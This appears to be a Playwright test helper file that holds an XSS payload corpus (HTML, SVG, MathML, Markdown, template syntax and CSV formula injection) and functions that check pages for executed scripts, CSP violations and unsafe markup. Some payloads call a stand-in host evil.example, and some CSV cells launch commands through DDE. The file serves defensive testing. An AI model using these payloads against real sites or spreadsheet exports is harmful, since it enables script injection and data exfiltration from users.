// The XSS corpus every field is tested with (issue 8 item 3), and the watch a page is kept under:
// each payload would open a dialog or set window.__xss if it ran, and a page that loads one must
// report no Content-Security-Policy violation either (the CSP reports to /api/csp-report).
import type { Page } from "@playwright/test";
import { expect } from "./login";

/** Tags, event handlers, javascript:/data: URLs, SVG and MathML: each would run if rendered as HTML. */
const markup = [
  "<script>alert(1)</script>",
  "<script>window.__xss=1</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script>/*</script><script>*/alert(2)</script>",
  '<img src=x onerror="alert(3)">',
  "<img src=x onerror=window.__xss=1>",
  "<IMG SRC=javascript:alert(4)>",
  '<img src="jav&#x09;ascript:alert(5)">',
  "<svg onload=alert(6)>",
  "<svg><script>alert(7)</script></svg>",
  '<svg><a xlink:href="javascript:alert(8)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
  "<body onload=alert(10)>",
  "<iframe src=javascript:alert(11)></iframe>",
  '<iframe srcdoc="<script>alert(12)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(13)&gt;"></iframe>',
  "<object data=javascript:alert(14)></object>",
  "<embed src=javascript:alert(15)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(17)">CLICK</math>',
  "<details open ontoggle=alert(18)>",
  "<input autofocus onfocus=alert(19)>",
  "<select autofocus onfocus=alert(20)></select>",
  "<video><source onerror=alert(21)></video>",
  "<audio src=x onerror=alert(22)>",
  "<marquee onstart=alert(23)>x</marquee>",
  '<a href="javascript:alert(24)">click</a>',
  '<div style="background:url(javascript:alert(25))">x</div>',
  "<form action=javascript:alert(26)><button>go</button></form>",
  "<button formaction=javascript:alert(27)>go</button>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(28)">',
  '<base href="javascript:alert(29)//">',
  '<link rel=import href="data:text/html,<script>alert(30)</script>">',
  '"><script>alert(49)</script>',
  "'><img src=x onerror=alert(50)>",
  "</textarea><script>alert(51)</script>",
  "</title><script>alert(52)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(53)>">',
  "<style>@import 'javascript:alert(54)';</style>",
  "<x onclick=alert(55)>click me</x>",
  '<a href="&#1;javascript:alert(56)">x</a>',
  "<img src=`x` onerror=alert(57)>",
  "<svg/onload=alert(58)>",
  "<scr<script>ipt>alert(59)</scr</script>ipt>",
  "<svg><foreignObject><iframe src=javascript:alert(60)></iframe></foreignObject></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(61)'/></svg>#x\"/></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(62)>CLICK</maction></math>",
  '<math><mi xlink:href="data:x,<script>alert(63)</script>">x</mi></math>',
  "<template><script>alert(64)</script></template>",
  "<img src=x:alert(alt) onerror=eval(src) alt=65>",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nik8L3NjcmlwdD4="></object>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nyk8L3NjcmlwdD4=">x</a>',
  '<iframe src="data:text/html,<script>parent.__xss=68</script>"></iframe>',
  "<body onpageshow=alert(69)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;70&#41;>",
  "<img src=x onerror=\\u0061lert(71)>",
  '<a href="java\u0000script:alert(72)">null</a>',
  "<scr\u0000ipt>alert(73)</scr\u0000ipt>",
  "<ScRiPt>alert(74)</sCrIpT>",
  "<img src=x oNeRrOr=alert(75)>",
  "<img/src=x/onerror=alert(76)>",
  "<img src=x onerror=alert(77)//",
  "<svg onload=alert(78)//",
  '<a href="jAvAsCrIpT:alert(79)">x</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(80)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(81)">x</a>',
  "&lt;script&gt;alert(82)&lt;/script&gt;",
  "%3Cscript%3Ealert(83)%3C/script%3E",
  "\\u003cscript\\u003ealert(84)\\u003c/script\\u003e",
  "<<script>alert(85);//<</script>",
  '<img src="x" onerror="alert(86)"',
  "<div onpointerenter=alert(87) style=position:fixed;inset:0>x</div>",
  "<input onfocus=alert(88) autofocus value=x>",
  "<textarea autofocus onfocus=alert(89)>x</textarea>",
  "<keygen autofocus onfocus=alert(90)>",
  "<isindex action=javascript:alert(91) type=submit>",
  "<img src=x onerror=\"window['al'+'ert'](92)\">",
  "<img src=x onerror=top[`al`+`ert`](93)>",
  "<svg><set attributeName=onmouseover to=alert(94)>",
  "<svg><animate attributeName=href values=javascript:alert(95) /><a><text y=20>x</text></a></svg>",
  "<img src=x onerror=import('data:text/javascript,alert(96)')>",
  '<a href="vbscript:msgbox(97)">x</a>',
  "<img src=x onerror=window.__xss=98>",
];

/** Markdown link and image tricks: the only fields rendered as Markdown are resource bodies. */
const markdown = [
  "[md-js](javascript:alert(31))",
  "[md-js-upper](JAVASCRIPT:alert(32))",
  "[md-js-space]( javascript:alert(33))",
  "[md-entity](&#106;avascript:alert(34))",
  "[md-hex-entity](&#x6A;avascript:alert(35))",
  "[md-tab](jav&#x09;ascript:alert(36))",
  "[md-newline](jav&#x0A;ascript:alert(37))",
  "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=)",
  "[md-vbs](vbscript:msgbox(39))",
  "[md-encoded](javascript%3Aalert(40))",
  "![md-img](javascript:alert(41))",
  '![md-img-onerror](x" onerror="alert(42))',
  "[md-ref][r1]\n\n[r1]: javascript:alert(43)",
  "<javascript:alert(44)>",
  '[md-title](https://example.org "x\\" onmouseover=alert(45) ")',
  "![md-img-data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5OSk8L3NjcmlwdD4=)",
  "[md-js-null](java\u0000script:alert(100))",
];

/** Template and expression syntax of other frameworks: text here, code there. */
const templates = [
  "{{constructor.constructor('alert(46)')()}}",
  "${alert(47)}",
  "<%= alert(48) %>",
  "{{$on.constructor('alert(101)')()}}",
  "#{alert(102)}",
  "$t(common:app.name) {{name}}",
];

/** CSV formula cells: harmless in a browser, run by spreadsheets unless the export defuses them. */
export const csvFormulaPayloads = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Every payload, each one distinct (team names are unique per organization). */
export const xssPayloads: readonly string[] = [...markup, ...markdown, ...templates, ...csvFormulaPayloads];

/** Payloads without line breaks or NUL (Postgres text refuses \u0000; one-line fields trim breaks). */
export const oneLinePayloads: readonly string[] = xssPayloads
  .filter((payload) => !/[\r\n\u0000]/.test(payload))
  .map((payload) => payload.replace(/\t/g, " ").trim())
  .filter((payload, index, all) => all.indexOf(payload) === index);

/** Payloads safe to store in Postgres text (no NUL), line breaks kept. */
export const storablePayloads: readonly string[] = xssPayloads.filter(
  (payload) => !payload.includes("\u0000"),
);

/** Payloads a textarea gives back as stored (it turns a lone CR into a line break). */
export const textareaPayloads: readonly string[] = storablePayloads.filter(
  (payload) => !payload.includes("\r"),
);

/**
 * Packs payloads, joined by a space, into texts of at most `max` characters, so one save carries
 * many payloads into a short plain-text field.
 */
export function payloadChunks(max: number): string[] {
  const result: string[] = [];
  let current = "";
  for (const payload of oneLinePayloads) {
    if (payload.length > max) continue;
    if (current && current.length + 1 + payload.length > max) {
      result.push(current);
      current = "";
    }
    current = current ? `${current} ${payload}` : payload;
  }
  if (current) result.push(current);
  return result;
}

type Watched = { __xss?: unknown; __cspViolations?: string[] };

/**
 * Keeps `page` under watch from the next navigation on: dialogs are recorded (and dismissed),
 * CSP violations counted in the page (a `securitypolicyviolation` listener installed before any
 * script) and requests to /api/csp-report counted. `expectNoScriptRan` fails on any of them.
 */
export function watchForScripts(page: Page) {
  const dialogs: string[] = [];
  const cspReports: string[] = [];
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).pathname.startsWith("/api/csp-report")) cspReports.push(request.url());
  });
  const installed = page.addInitScript(() => {
    const watched = window as Watched;
    watched.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      watched.__cspViolations!.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return {
    installed,
    async expectNoScriptRan(where: string) {
      const state = await page.evaluate(() => {
        const watched = window as Watched;
        return { xss: watched.__xss, csp: watched.__cspViolations ?? null };
      });
      expect(state.xss, `${where}: window.__xss`).toBeUndefined();
      expect(state.csp, `${where}: CSP violations in the page`).toEqual([]);
      expect(cspReports, `${where}: requests to /api/csp-report`).toEqual([]);
      expect(dialogs, `${where}: dialogs`).toEqual([]);
      // Polled: while a page streams (its metadata arrives after the content, ADR 010), React's own
      // <template> placeholders stand in <main> for a moment. Markup a payload put there stays.
      await expect
        .poll(() => dangerousMarkup(page), { message: `${where}: markup from a payload` })
        .toEqual([]);
    },
  };
}

/**
 * Elements and attributes only a payload could have put in <main>: script-capable tags, event
 * handler attributes, srcdoc, and javascript:/data:/vbscript: URLs (control characters removed,
 * as the browser does before following them).
 */
export async function dangerousMarkup(page: Page) {
  return page.locator("main").evaluate((main) => {
    const found: string[] = [];
    const unsafeUrl = /^\s*(javascript|data|vbscript):/i;
    for (const element of [main, ...main.querySelectorAll("*")]) {
      const tag = element.tagName.toLowerCase();
      if (
        ["script", "iframe", "object", "embed", "base", "meta", "link", "style", "math", "template"].includes(
          tag,
        )
      )
        found.push(`<${tag}>`);
      for (const attribute of element.attributes) {
        const name = attribute.name.toLowerCase();
        if (name.startsWith("on")) found.push(`${tag}[${name}]`);
        if (name === "srcdoc") found.push(`${tag}[srcdoc]`);
        if (["href", "src", "action", "formaction", "xlink:href", "data", "poster"].includes(name)) {
          const value = attribute.value.replace(/[\u0000-\u0020]/g, "");
          // React puts this placeholder on forms whose action is a server action.
          if (
            name === "action" &&
            value.startsWith("javascript:thrownewError('AReactformwasunexpectedlysubmitted")
          )
            continue;
          // The import page's own sample file is a data: link to CSV, which a browser never runs.
          if (value.startsWith("data:text/csv")) continue;
          if (unsafeUrl.test(value)) found.push(`${tag}[${name}=${attribute.value}]`);
        }
      }
    }
    return found;
  });
}
